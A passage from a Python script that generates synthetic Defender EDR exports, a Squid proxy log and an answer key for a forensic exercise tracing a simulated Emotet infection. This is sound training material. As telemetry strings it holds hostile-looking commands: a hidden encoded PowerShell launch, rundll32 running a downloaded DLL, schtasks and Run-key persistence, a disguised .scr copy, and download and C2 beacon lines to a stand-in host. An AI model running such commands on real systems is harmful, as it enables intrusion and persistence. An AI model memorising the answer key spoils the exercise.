        (T(14, 1, 42, 1187402), f"--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle=2088 {EDGE_TRIALS} /prefetch:2"),
        (T(14, 1, 42, 3920558), f"--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2412 {EDGE_TRIALS} /prefetch:3"),
        (T(14, 1, 42, 8405119), f"--type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=6 --mojo-platform-channel-handle=3376 {EDGE_TRIALS} /prefetch:1"),
        (T(14, 5, 17, 4471320), f"--type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=9 --mojo-platform-channel-handle=4820 {EDGE_TRIALS} /prefetch:1"),
        (T(14, 9, 53, 905811), f"--type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=12 --mojo-platform-channel-handle=5012 {EDGE_TRIALS} /prefetch:1"),
    ]
    for t, args in edge_children:
        h.spawn(edge, t, EDGE, f"\"{EDGE}\" {args}")
    edge_net = [
        (T(14, 1, 43, 177251), "13.107.136.9", "contoso.sharepoint.com"),
        (T(14, 1, 43, 4002817), "20.190.159.68", "login.microsoftonline.com"),
        (T(14, 1, 44, 9013375), "13.107.6.158", "res.cdn.office.net"),
        (T(14, 5, 16, 7718204), "204.79.197.200", "www.bing.com"),
        (T(14, 5, 18, 2290513), "13.107.21.200", "th.bing.com"),
        (T(14, 9, 52, 4188390), "13.107.136.9", "contoso.sharepoint.com"),
        (T(14, 12, 37, 6620914), "204.79.197.200", "www.bing.com"),
    ]
    for t, ip, url in edge_net:
        h.net(t, edge, "ConnectionSuccess", ip, 443, url)
    eprof = "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default"
    h.file(T(14, 1, 45, 5530128), edge, "FileModified", eprof + "\\Network\\Cookies-journal", content="edge-cookies-1")
    h.file(T(14, 9, 55, 1277409), edge, "FileModified", eprof + "\\History-journal", content="edge-history-1")
    h.image(T(14, 1, 41, 4710093), edge, SYS32 + "\\winhttp.dll")
    edge_last = T(14, 12, 37, 6620914)

    # ---- the lure: chrome download, renamed from .crdownload ----------------
    dl = "C:\\Users\\jdoe\\Downloads\\Invoice_0823.docm"
    tmp = "C:\\Users\\jdoe\\Downloads\\Unconfirmed 482913.crdownload"
    h.file(T(14, 18, 39, 7736014), chrome, "FileCreated", tmp, content="Invoice_0823.docm")
    h.file(T(14, 18, 40, 2092835), chrome, "FileRenamed", dl, content="Invoice_0823.docm", previous=tmp)
    h.net(T(14, 18, 38, 9005122), chrome, "ConnectionSuccess", "142.250.185.142", 443, "mail.google.com")

    # ---- pitfall 1b: WINWORD -> powershell (PID 6640 reused) -> rundll32 ----
    word_ct = T(14, 20, 3, 5512904)
    word = h.spawn(ex, word_ct, WORD,
                   f"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"{dl}\" /o \"\"",
                   pid=P["word"])
    h.image(T(14, 20, 4, 8831560), word, "C:\\Program Files\\Common Files\\microsoft shared\\VBA\\VBA7.1\\VBE7.DLL")
    h.file(T(14, 20, 5, 1021834), word, "FileCreated",
           "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Office\\Recent\\Invoice_0823.docm.LNK", content="lnk-invoice")
    h.file(T(14, 20, 5, 3361211), word, "FileCreated", "C:\\Users\\jdoe\\Downloads\\~$voice_0823.docm", content="owner-file")
    h.net(T(14, 20, 6, 1109927), word, "ConnectionSuccess", "52.109.12.19", 443, "roaming.officeapps.live.com")
    ps_ct = T(14, 21, 7, 4417093)
    ps_cmd = f"powershell.exe -nop -w hidden -enc {ENC}"
    ps = h.spawn(word, ps_ct, POWERSHELL, ps_cmd, pid=P["ps"], reuse_ok=True)
    h.spawn(ps, T(14, 21, 7, 5902261), SYS32 + "\\conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", pid=P["ps_conhost"])
    h.image(T(14, 21, 7, 8184420), ps,
            "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.A#\\4f7b3c1a5e7d6e2b4c0e9d8f1a2b3c4d\\System.Management.Automation.ni.dll")
    pstest = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\__PSScriptPolicyTest_w3xk1bq2.mtd.ps1"
    h.file(T(14, 21, 7, 9911065), ps, "FileCreated", pstest, content="pstest")
    h.file(T(14, 21, 8, 71238), ps, "FileDeleted", pstest)
    ps_conn = T(14, 21, 8, 1530207)
    h.net(ps_conn, ps, "ConnectionSuccess", DL_IP, 80, DL_HOST)
    h.file(T(14, 21, 12, 6620458), ps, "FileCreated", EMOTET_DLL, content="emotet.dll")
    rundll_ct = T(14, 21, 15, 2871160)
    rundll = h.spawn(ps, rundll_ct, SYS32 + "\\rundll32.exe",
                     f"rundll32.exe {EMOTET_DLL},Control_RunDLL", pid=P["rundll"])
    h.image(T(14, 21, 15, 5004172), rundll, EMOTET_DLL, content="emotet.dll")

    # ---- pitfall 2: what only the late export has ----------------------------
    cmd1 = h.spawn(rundll, T(14, 26, 2, 1185530), SYS32 + "\\cmd.exe", "cmd.exe /c whoami /all", pid=P["cmd_whoami"])
    cmd_conhost = h.spawn(cmd1, T(14, 26, 2, 2290741), SYS32 + "\\conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", pid=P["cmd_conhost"])
    whoami = h.spawn(cmd1, T(14, 26, 2, 4407716), SYS32 + "\\whoami.exe", "whoami  /all", pid=P["whoami"])

    # ---- pitfall 3: the loader and its neighbours -----------------------------
    h.file(T(14, 27, 30, 3318074), rundll, "FileCreated", UPDSVC, content=UPDSVC)
    h.file(T(14, 27, 31, 1057796), rundll, "FileCreated", VERSION_DLL, content=VERSION_DLL)
    h.file(T(14, 27, 31, 4920233), rundll, "FileCreated", UPDSVC_CFG, content="updsvc.cfg v1")
    sch_cmd = ("\"C:\\Windows\\System32\\schtasks.exe\" /create /tn \"Intel\\UpdateService\" "
               "/tr \"C:\\ProgramData\\Intel\\updsvc.exe -k netsvc\" /sc onlogon /rl highest /f")
    schtasks = h.spawn(rundll, T(14, 28, 10, 6703395), SYS32 + "\\schtasks.exe", sch_cmd, pid=P["schtasks"])
    h.reg(T(14, 28, 10, 9134652), sched, "RegistryKeyCreated",
          "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Intel\\UpdateService")
    h.file(T(14, 28, 10, 9560021), sched, "FileCreated", "C:\\Windows\\System32\\Tasks\\Intel\\UpdateService", content="task-xml")
    upd_ct = T(14, 29, 5, 2044718)
    upd = h.spawn(rundll, upd_ct, UPDSVC, "\"C:\\ProgramData\\Intel\\updsvc.exe\" -k netsvc", pid=P["updsvc"])
    h.image(T(14, 29, 5, 4471006), upd, VERSION_DLL)
    h.image(T(14, 29, 5, 6180342), upd, SYS32 + "\\winhttp.dll")
    h.reg(T(14, 29, 40, 7718350), upd, "RegistryValueSet", RUN_KEY, "IntelUpdate",
          "\"C:\\ProgramData\\Intel\\updsvc.exe\" -k netsvc")
    h.file(T(14, 52, 0, 3126644), upd, "FileModified", UPDSVC_CFG, content="updsvc.cfg v2")
    h.reg(T(14, 52, 0, 8850119), upd, "RegistryValueSet", RUN_KEY, "IntelUpdate",
          "\"C:\\ProgramData\\Intel\\updsvc.exe\" -k netsvc -c C:\\ProgramData\\Intel\\updsvc.cfg")
    h.file(T(15, 21, 44, 5517302), upd, "FileModified", UPDSVC_CFG, content="updsvc.cfg v3")

    # ---- pitfall 5: the lure name glued to the Temp folder name ----------------
    copy_ct = T(14, 33, 12, 9046201)
    copy_cmd = f"cmd.exe /c copy /y \"{EMOTET_DLL}\" \"{HIDDEN_PATH}\""
    cmd2 = h.spawn(rundll, copy_ct, SYS32 + "\\cmd.exe", copy_cmd, pid=P["cmd_copy"])
    copy_file_t = T(14, 33, 13, 1720588)
    h.file(copy_file_t, cmd2, "FileCreated", HIDDEN_PATH, content="emotet.dll")

    # ---- WINWORD stays open; the user renames a file later --------------------
    h.file(T(14, 44, 51, 7209113), ex, "FileRenamed", "C:\\Users\\jdoe\\Documents\\call notes, 2023-08-10.txt",
           content="call-notes", previous="C:\\Users\\jdoe\\Documents\\New Text Document.txt")
    h.file(T(14, 45, 2, 4492105), word, "FileModified",
           "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", content="normal-dotm-2")

    # ---- noise ------------------------------------------------------------------
    add_noise(h, WINDOW_START, EARLY_CUTOFF, 282)
    add_noise(h, EARLY_CUTOFF, WINDOW_END, 312)

    facts.update(
        edge=edge, edge_last=edge_last, word=word, ps=ps, rundll=rundll, cmd_whoami=cmd1,
        whoami=whoami, cmd_conhost=cmd_conhost, schtasks=schtasks, upd=upd, cmd_copy=cmd2, copy_file_t=copy_file_t,
        ps_conn=ps_conn, ex=ex,
    )
    return h, facts


# ---------------------------------------------------------------------------
# pc-hr-02: a quiet host
# ---------------------------------------------------------------------------
def build_hr(rng: random.Random) -> Host:
    h = Host("pc-hr-02.contoso.local", "10.20.31.12", "asmith", 31877, rng)
    baseline(h, "C:\\Users\\asmith", boot=T(8, 12, 40, 1177302), logon=T(8, 20, 2, 6630419))
    ex = h.roles["explorer"]
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    ol = h.spawn(ex, T(13, 36, 12, 4410972), outlook, f"\"{outlook}\" ")
    h.net(T(13, 36, 14, 1098233), ol, "ConnectionSuccess", "52.97.146.178", 443, "outlook.office365.com")
    excel = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
    xl = h.spawn(ex, T(14, 12, 48, 7031556), excel,
                 f"\"{excel}\" \"C:\\Users\\asmith\\OneDrive - Contoso\\HR\\Holiday planner 2023.xlsx\"")
    h.file(T(14, 31, 5, 2208814), xl, "FileModified",
           "C:\\Users\\asmith\\OneDrive - Contoso\\HR\\Holiday planner 2023.xlsx", content="holiday-v9")
    quiet = (n_prefetch, n_defender_file, n_search_file, n_explorer_file, n_teams_file, n_mpcmdrun,
             n_sched_child, n_image, n_registry)
    add_noise(h, WINDOW_START, WINDOW_END, 30, exclude=quiet)
    return h


# ---------------------------------------------------------------------------
# Squid native access log
# ---------------------------------------------------------------------------
OTHER_CLIENTS = ["10.20.30.12", "10.20.30.58", "10.20.31.12", "10.20.32.101", "10.20.32.140"]
TUNNELS = [
    ("www.google.com", "142.250.185.68"), ("login.microsoftonline.com", "20.190.159.68"),
    ("outlook.office365.com", "52.97.146.178"), ("contoso.sharepoint.com", "13.107.136.9"),
    ("teams.microsoft.com", "52.113.194.132"), ("www.linkedin.com", "13.107.42.14"),
    ("github.com", "140.82.121.3"), ("www.salesforce.com", "104.18.32.47"),
    ("fonts.gstatic.com", "142.250.185.99"),
]
PLAIN_HTTP = [
    ("http://ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/authrootstl.cab?5a8e7cbe3c4f1b2a",
     "13.107.4.50", "application/vnd.ms-cab-compressed"),
    ("http://ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/disallowedcertstl.cab?8c6d1a0f2e3b4d5c",
     "13.107.4.50", "application/vnd.ms-cab-compressed"),
    ("http://ocsp.digicert.com/MFEwTzBNMEswSTAJBgUrDgMCGgUABBSAUQYBMq2awn1Rh6Doh%2FsBYgFV7gQUA95QNVbRTLtm8KPiGxvDl7I90VUCEAJ0LqoXyo4hxxe7H%2Fz9DKA%3D",
     "93.184.220.29", "application/ocsp-response"),
    ("http://www.msftconnecttest.com/connecttest.txt", "13.107.4.52", "text/plain"),
    ("http://crl3.digicert.com/DigiCertGlobalRootG2.crl", "93.184.220.29", "application/pkix-crl"),
]
DENIED = [
    "CONNECT www.dropbox.com:443", "CONNECT mega.nz:443", "GET http://free-movies.example/watch?id=7781",
    "CONNECT pastebin.com:443", "GET http://torrent-index.example/browse/207",
]


def squid_line(t: int, elapsed: int, client: str, code: str, size: int, method: str, url: str,
               hier: str, mime: str) -> tuple[int, str]:
    return t, f"{epoch_ms(t)} {elapsed:6d} {client} {code} {size} {method} {url} - {hier} {mime}"


def build_squid(rng: random.Random, facts: dict) -> tuple[list[str], dict]:
    lines: list[tuple[int, str]] = []
    sales_ip = "10.20.30.47"
    # background: other clients, and ordinary traffic of pc-sales-07 itself
    for _ in range(92):
        t = rng.randrange(WINDOW_START, WINDOW_END)
        client = rng.choice(OTHER_CLIENTS + [sales_ip])
        roll = rng.random()
        if roll < 0.62:
            host, ip = rng.choice(TUNNELS)
            lines.append(squid_line(t, rng.randint(80, 240000), client, "TCP_TUNNEL/200",
                                    rng.randint(3000, 900000), "CONNECT", f"{host}:443", f"HIER_DIRECT/{ip}", "-"))
        elif roll < 0.88:
            url, ip, mime = rng.choice(PLAIN_HTTP)
            code, size = rng.choice([("TCP_MISS/200", rng.randint(900, 62000)),
                                     ("TCP_REFRESH_UNMODIFIED/304", rng.randint(280, 420)),
                                     ("TCP_MEM_HIT/200", rng.randint(900, 62000))])
            hier = "HIER_NONE/-" if "HIT" in code else f"HIER_DIRECT/{ip}"
            lines.append(squid_line(t, rng.randint(0, 420), client, code, size, "GET", url, hier, mime))
        else:
            method, url = rng.choice(DENIED).split(" ")
            lines.append(squid_line(t, rng.randint(0, 3), client, "TCP_DENIED/403",
                                    rng.randint(3800, 4100), method, url, "HIER_NONE/-", "text/html"))
    # pc-sales-07 msedge (PID 6640, first life) to bing via the proxy
    for t in (T(14, 5, 19, 512000), T(14, 12, 41, 88000)):
        lines.append(squid_line(t, rng.randint(2000, 9000), sales_ip, "TCP_TUNNEL/200",
                                rng.randint(20000, 90000), "CONNECT", "www.bing.com:443",
                                "HIER_DIRECT/204.79.197.200", "-"))
    # the download cradle and the Emotet DLL (same keep-alive TCP connection as the EDR row)
    dl = [squid_line(T(14, 21, 8, 6120000), 412, sales_ip, "TCP_MISS/200", 2381, "GET",
                     f"http://{DL_HOST}/invoice.ps1", f"HIER_DIRECT/{DL_IP}", "text/plain"),
          squid_line(T(14, 21, 12, 4030000), 3107, sales_ip, "TCP_MISS/200", 368954, "GET",
                     f"http://{DL_HOST}/files/emotet.dll", f"HIER_DIRECT/{DL_IP}", "application/octet-stream")]
    lines += dl
    # C2 of updsvc.exe: beacons every ~5 minutes from 14:29:36 on, plus two config pulls
    beacons = []
    t = T(14, 29, 36, 1030000)
    while t < T(15, 29, 30):
        beacons.append(squid_line(t, rng.randint(180, 520), sales_ip, "TCP_MISS/200",
                                  rng.randint(412, 1480), "POST", C2_BEACON_URL,
                                  f"HIER_DIRECT/{C2_IP}", "application/octet-stream"))
        t += (300 + rng.randint(-25, 25)) * TICKS + rng.randint(0, 999) * 10_000
    configs = [squid_line(T(14, 51, 58, 944000), 266, sales_ip, "TCP_MISS/200", 1187, "GET",
                          C2_CONFIG_URL, f"HIER_DIRECT/{C2_IP}", "application/octet-stream"),
               squid_line(T(15, 21, 42, 702000), 301, sales_ip, "TCP_MISS/200", 1203, "GET",
                          C2_CONFIG_URL, f"HIER_DIRECT/{C2_IP}", "application/octet-stream")]
    lines += beacons + configs
    lines.sort()
    sq = {
        "lines": len(lines),
        "download_lines": [l for _, l in dl],
        "beacon_times": [iso(t) for t, _ in beacons],
        "beacon_epochs": [epoch_ms(t) for t, _ in beacons],
        "config_times": [iso(t) for t, _ in configs],
        "denied": sum(1 for _, l in lines if " TCP_DENIED/403 " in l),
        "in_qw": sum(1 for t, _ in lines if T(14, 0, 0) <= t < T(15, 0, 0)),
        "from_sales_ip": sum(1 for _, l in lines if f" {sales_ip} " in l),
    }
    return [l for _, l in lines], sq


# ---------------------------------------------------------------------------
# writing
# ---------------------------------------------------------------------------
def csv_bytes(rows: list[dict]) -> bytes:
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(COLUMNS)
    for r in rows:
        w.writerow([r[c] for c in COLUMNS])
    return buf.getvalue().encode("utf-8")


def proc_info(p: Proc) -> dict:
    return {"name": p.name, "pid": p.pid, "creation_time": iso(p.ct), "folder_path": p.path,
            "command_line": p.cmd, "parent_pid": p.parent.pid if p.parent else None,
            "parent_name": p.parent.name if p.parent else None,
            "parent_creation_time": iso(p.parent.ct) if p.parent else None}


def build_expected(sales: Host, hr: Host, facts: dict, early: list[dict], late: list[dict],
                   squid_facts: dict, early_b: bytes, late_b: bytes, squid_b: bytes) -> dict:
    f = facts
    ps, edge, upd, rundll = f["ps"], f["edge"], f["upd"], f["rundll"]
    sales_late = [r for r in late if r["DeviceName"] == sales.name]

    def rows_where(rows, pred):
        return [r for r in rows if pred(r)]

    init_6640 = rows_where(sales_late, lambda r: r["InitiatingProcessId"] == "6640")
    by_ct = {}
    for r in init_6640:
        by_ct[r["InitiatingProcessCreationTime"]] = by_ct.get(r["InitiatingProcessCreationTime"], 0) + 1
    children = lambda rows, p: sorted(  # noqa: E731  (by creation time)
        (r["ProcessCreationTime"], r["FileName"], int(r["ProcessId"])) for r in rows
        if r["ActionType"] == "ProcessCreated" and r["InitiatingProcessId"] == str(p.pid)
        and r["InitiatingProcessCreationTime"] == iso(p.ct))
    edge_rows = [r for r in sales_late if
                 (r["ActionType"] == "ProcessCreated" and r["ProcessId"] == "6640" and r["ProcessCreationTime"] == iso(edge.ct))
                 or (r["InitiatingProcessId"] == "6640" and r["InitiatingProcessCreationTime"] == iso(edge.ct))
                 or (r["InitiatingProcessParentId"] == "6640" and r["InitiatingProcessParentCreationTime"] == iso(edge.ct))]
    gp_6640 = rows_where(sales_late, lambda r: r["InitiatingProcessParentId"] == "6640")
    gp_by_ct: dict = {}
    for r in gp_6640:
        gp_by_ct[r["InitiatingProcessParentCreationTime"]] = gp_by_ct.get(r["InitiatingProcessParentCreationTime"], 0) + 1
    sha_of = lambda path: next(r["SHA256"] for r in late if r["ActionType"] == "FileCreated" and r["FolderPath"] == path)  # noqa: E731

    loader_rows = rows_where(sales_late, lambda r: r["FolderPath"].lower().startswith(INTEL_DIR.lower() + "\\"))
    hidden_rows = []
    for r in late:
        cols = [c for c in COLUMNS if HIDDEN_NAME.lower() in r[c].lower()]
        if cols:
            hidden_rows.append({"file": "export_late.csv", "ReportId": int(r["ReportId"]),
                                "DeviceName": r["DeviceName"], "Timestamp": r["Timestamp"],
                                "ActionType": r["ActionType"], "columns": cols})
    early_hidden = sum(1 for r in early if any(HIDDEN_NAME.lower() in r[c].lower() for c in COLUMNS))

    def count_by(rows, key):
        out: dict = {}
        for r in rows:
            out[r[key]] = out.get(r[key], 0) + 1
        return dict(sorted(out.items()))

    in_qw = lambda rows: sum(1 for r in rows if T(14, 0, 0) <= r["_t"] < T(15, 0, 0))  # noqa: E731
    early_keys = {(r["DeviceName"], r["ReportId"]) for r in early}
    dup = sum(1 for r in late if (r["DeviceName"], r["ReportId"]) in early_keys)
    c2_edr_rows = sum(1 for r in late if r["RemoteIP"] == C2_IP or C2_HOST in r["RemoteUrl"])
    run_key_rows = rows_where(late, lambda r: r["ActionType"] == "RegistryValueSet" and r["RegistryKey"] == RUN_KEY)

    return {
        "description": "Facts about examples/case, produced by examples/make_example.py from the same data it writes.",
        "time_window": {"start": iso(WINDOW_START), "end": iso(WINDOW_END),
                        "query_window": ["2023-08-10T14:00:00Z", "2023-08-10T15:00:00Z"]},
        "hosts": {
            sales.name: {"device_id": sales.device_id, "ip": sales.ip, "user": "contoso\\jdoe"},
            hr.name: {"device_id": hr.device_id, "ip": hr.ip, "user": "contoso\\asmith"},
        },
        "files": {
            "case/export_early.csv": {
                "format": "Defender Advanced Hunting CSV export (UTF-8, CRLF, RFC 4180)",
                "taken_at": iso(EARLY_CUTOFF), "covers": [iso(WINDOW_START), iso(EARLY_CUTOFF)],
                "hosts": [sales.name], "columns": len(COLUMNS), "records": len(early),
                "physical_lines": early_b.count(b"\r\n"), "bytes": len(early_b),
                "sha256": hashlib.sha256(early_b).hexdigest(),
                "records_by_action_type": count_by(early, "ActionType"),
                "first_timestamp": early[0]["Timestamp"], "last_timestamp": early[-1]["Timestamp"],
                "records_in_query_window": in_qw(early),
            },
            "case/export_late.csv": {
                "format": "Defender Advanced Hunting CSV export (UTF-8, CRLF, RFC 4180)",
                "taken_at": iso(WINDOW_END), "covers": [iso(WINDOW_START), iso(WINDOW_END)],
                "hosts": [sales.name, hr.name], "columns": len(COLUMNS), "records": len(late),
                "records_by_host": count_by(late, "DeviceName"),
                "physical_lines": late_b.count(b"\r\n"), "bytes": len(late_b),
                "sha256": hashlib.sha256(late_b).hexdigest(),
                "records_by_action_type": count_by(late, "ActionType"),
                "first_timestamp": late[0]["Timestamp"], "last_timestamp": late[-1]["Timestamp"],
                "records_in_query_window": in_qw(late),
                "records_in_query_window_by_host": {h_: in_qw([r for r in late if r["DeviceName"] == h_]) for h_ in sorted({r["DeviceName"] for r in late})},
            },
            "case/proxy/squid_access.log": {
                "format": "Squid native access.log (LF line ends)", "lines": squid_facts["lines"],
                "bytes": len(squid_b), "sha256": hashlib.sha256(squid_b).hexdigest(),
                "lines_in_query_window": squid_facts["in_qw"],
                "tcp_denied_403": squid_facts["denied"], "from_10.20.30.47": squid_facts["from_sales_ip"],
            },
        },
        "overlap": {
            "late_rows_duplicating_early": dup,
            "early_rows_missing_from_late": len(early) - dup,
            "unique_records_after_ingesting_both": len(late) + len(early) - dup,
            "rows_ingested_if_not_deduplicated": len(late) + len(early),
            "identity": "(DeviceName, ReportId) -- the duplicated rows are byte-identical",
            "records_with_embedded_newline": {
                "early": sum(1 for r in early if any("\n" in r[c] for c in COLUMNS)),
                "late": sum(1 for r in late if any("\n" in r[c] for c in COLUMNS))},
        },
        "pitfall_1_pid_reuse": {
            "host": sales.name, "pid": 6640,
            "msedge": {**proc_info(edge), "last_seen": iso(f["edge_last"]),
                       "rows_in_late_export": len(edge_rows),
                       "children": [{"creation_time": c[0], "name": c[1], "pid": c[2]} for c in children(sales_late, edge)]},
            "powershell": {**proc_info(ps), "encoded_command_decoded": CRADLE,
                           "children": [{"creation_time": c[0], "name": c[1], "pid": c[2]} for c in children(sales_late, ps)]},
            "rows_with_InitiatingProcessId_6640": {"total": len(init_6640), "by_InitiatingProcessCreationTime": dict(sorted(by_ct.items()))},
            "rows_with_InitiatingProcessParentId_6640": {"total": len(gp_6640), "by_InitiatingProcessParentCreationTime": dict(sorted(gp_by_ct.items()))},
            "process_created_rows_with_ProcessId_6640": 2,
        },
        "emotet_chain": {
            "host": sales.name,
            "chain": [proc_info(f["ex"]), proc_info(f["word"]), proc_info(ps), proc_info(rundll)],
            "late_only_children_of_rundll32": [proc_info(p) for p in (f["cmd_whoami"], f["schtasks"], upd, f["cmd_copy"])],
            "grandchildren": [proc_info(p) for p in (f["cmd_conhost"], f["whoami"])],
            "download": {"url": f"http://{DL_HOST}/invoice.ps1", "ip": DL_IP, "port": 80,
                         "edr_connection_time": iso(f["ps_conn"]), "dll": EMOTET_DLL},
        },
        "pitfall_2_incomplete_tree": {
            "rundll32_children_in_early": len(children(early, rundll)),
            "rundll32_children_in_late": len(children(sales_late, rundll)),
            "rundll32_children_late": [{"creation_time": c[0], "name": c[1], "pid": c[2]} for c in children(sales_late, rundll)],
        },
        "pitfall_3_loader_folder": {
            "folder": INTEL_DIR,
            "files": {
                "updsvc.exe": {"path": UPDSVC, "created": next(r["Timestamp"] for r in loader_rows if r["FolderPath"] == UPDSVC and r["ActionType"] == "FileCreated"),
                               "created_by": "rundll32.exe", "process": proc_info(upd)},
                "version.dll": {"path": VERSION_DLL, "created": next(r["Timestamp"] for r in loader_rows if r["FolderPath"] == VERSION_DLL and r["ActionType"] == "FileCreated"),
                                "created_by": "rundll32.exe",
                                "image_loaded_by": {"name": upd.name, "pid": upd.pid, "time": next(r["Timestamp"] for r in loader_rows if r["ActionType"] == "ImageLoaded")}},
                "updsvc.cfg": {"path": UPDSVC_CFG, "created": next(r["Timestamp"] for r in loader_rows if r["FolderPath"] == UPDSVC_CFG and r["ActionType"] == "FileCreated"),
                               "created_by": "rundll32.exe",
                               "modified": [r["Timestamp"] for r in loader_rows if r["FolderPath"] == UPDSVC_CFG and r["ActionType"] == "FileModified"]},
            },
            "rows_with_FolderPath_in_folder": len(loader_rows),
            "rows_with_FolderPath_in_folder_by_action_type": count_by(loader_rows, "ActionType"),
            "process_created_rows_in_folder": sum(1 for r in loader_rows if r["ActionType"] == "ProcessCreated"),
            "rows_with_InitiatingProcessFolderPath_updsvc": sum(1 for r in late if r["InitiatingProcessFolderPath"] == UPDSVC),
            "run_key_values_by_updsvc": [{"time": r["Timestamp"], "name": r["RegistryValueName"], "data": r["RegistryValueData"]}
                                         for r in run_key_rows if r["InitiatingProcessFileName"] == "updsvc.exe"],
            "run_key_value_set_rows_total": len(run_key_rows),
        },
        "pitfall_4_c2_only_in_proxy": {
            "domain": C2_HOST, "ip": C2_IP, "beacon_url": C2_BEACON_URL,
            "beacon_lines": len(squid_facts["beacon_times"]), "beacon_method": "POST", "beacon_status": 200,
            "first_beacon": squid_facts["beacon_times"][0], "last_beacon": squid_facts["beacon_times"][-1],
            "beacon_times": squid_facts["beacon_times"],
            "beacon_epochs": squid_facts["beacon_epochs"],
            "beacon_lines_in_query_window": sum(1 for b in squid_facts["beacon_times"] if "2023-08-10T14:00:00" <= b < "2023-08-10T15:00:00"),
            "config_url": C2_CONFIG_URL, "config_lines": len(squid_facts["config_times"]),
            "config_times": squid_facts["config_times"],
            "c2_lines_total": len(squid_facts["beacon_times"]) + len(squid_facts["config_times"]),
            "client_ip": sales.ip, "process": {"name": upd.name, "pid": upd.pid, "creation_time": iso(upd.ct)},
            "edr_rows_for_c2": c2_edr_rows,
            "edr_network_rows_for_updsvc": sum(1 for r in late if r["InitiatingProcessFileName"] == "updsvc.exe" and r["RemoteIP"]),
            "download_lines_in_proxy": squid_facts["download_lines"],
        },
        "pitfall_5_hidden_name": {
            "name": HIDDEN_NAME, "host": sales.name,
            "full_path": HIDDEN_PATH, "file_name_column_value": HIDDEN_PATH.rsplit("\\", 1)[-1],
            "containing_token": "Tempinvoice_Q3_final.pdf.scr",
            "rows": hidden_rows, "rows_in_early_export": early_hidden,
            "written_by": proc_info(f["cmd_copy"]), "file_created": iso(f["copy_file_t"]),
            "sha256": sha_of(HIDDEN_PATH),
            "sha256_equals_emotet_dll": sha_of(HIDDEN_PATH) == sha_of(EMOTET_DLL),
        },
    }


def verify(out: Path, expected: dict) -> None:
    """Re-read the written files and check the invariants the README promises."""
    def read(p):
        with open(p, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        assert rows[0] == COLUMNS, p
        assert all(len(r) == len(COLUMNS) for r in rows), p
        return rows[1:]
    early = read(out / "case" / "export_early.csv")
    late = read(out / "case" / "export_late.csv")
    late_set = {tuple(r) for r in late}
    assert all(tuple(r) in late_set for r in early)
    assert len(late_set) == len(late)
    ids = [(r[2], r[-1]) for r in late]
    assert len(set(ids)) == len(ids)
    assert len(early) == expected["files"]["case/export_early.csv"]["records"]
    assert len(late) == expected["files"]["case/export_late.csv"]["records"]
    # early rows are byte-identical in the late file
    late_text = (out / "case" / "export_late.csv").read_bytes()
    early_lines = (out / "case" / "export_early.csv").read_bytes()
    for rec in csv_bytes_records(early):
        assert rec in late_text
    assert early_lines.startswith(",".join(COLUMNS).encode() + b"\r\n")
    # pid uniqueness apart from 6640
    seen: dict = {}
    for r in late:
        if r[3] == "ProcessCreated":
            seen.setdefault((r[2], r[8]), set()).add(r[10])
    reused = {k: v for k, v in seen.items() if len(v) > 1}
    assert list(reused) == [("pc-sales-07.contoso.local", "6640")], reused
    # timestamps shape
    for r in late:
        for c in (0, 10, 17, 21):
            v = r[c]
            assert v == "" or (len(v) == 28 and v.endswith("Z") and v[19] == "."), v
    squid = (out / "case" / "proxy" / "squid_access.log").read_text(encoding="ascii").splitlines()
    assert len(squid) == expected["files"]["case/proxy/squid_access.log"]["lines"]
    assert all(len(l.split()) == 10 for l in squid)
    assert sum(" POST " + C2_BEACON_URL + " " in l for l in squid) == expected["pitfall_4_c2_only_in_proxy"]["beacon_lines"]


def csv_bytes_records(rows: list[list[str]]) -> list[bytes]:
    out = []
    for r in rows:
        buf = io.StringIO(newline="")
        csv.writer(buf, lineterminator="\r\n").writerow(r)
        out.append(b"\r\n" + buf.getvalue().encode("utf-8"))
    return out


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=Path(__file__).resolve().parent,
                    help="folder to write case/ and expected.json into (default: this script's folder)")
    args = ap.parse_args(argv)
    out: Path = args.out

    rng = random.Random(SEED)
    sales, facts = build_sales(rng)
    hr = build_hr(rng)
    sales_rows = sales.finish()
    hr_rows = hr.finish()
    key = lambda r: (r["_t"], r["DeviceName"], int(r["ReportId"]))  # noqa: E731
    late = sorted(sales_rows + hr_rows, key=key)
    late = [r for r in late if WINDOW_START <= r["_t"] < WINDOW_END]
    assert len(late) == len(sales_rows) + len(hr_rows)
    early = [r for r in late if r["DeviceName"] == sales.name and r["_t"] < EARLY_CUTOFF]
    squid_lines, squid_facts = build_squid(rng, facts)

    early_b = csv_bytes(early)
    late_b = csv_bytes(late)
    squid_b = ("\n".join(squid_lines) + "\n").encode("ascii")

    expected = build_expected(sales, hr, facts, early, late, squid_facts, early_b, late_b, squid_b)

